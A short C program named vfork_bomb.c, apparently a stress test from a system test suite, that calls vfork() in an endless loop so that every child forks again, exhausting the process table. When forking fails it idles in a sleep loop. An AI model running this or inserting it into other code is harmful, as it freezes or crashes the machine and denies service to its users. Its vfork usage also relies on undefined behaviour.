/* vfork_bomb.c -- each child vforks again. */
#include "won.h"
int main(void)
{
    for (;;)
        if (vfork() < 0)
            for (;;)
                usleep(1000);
}
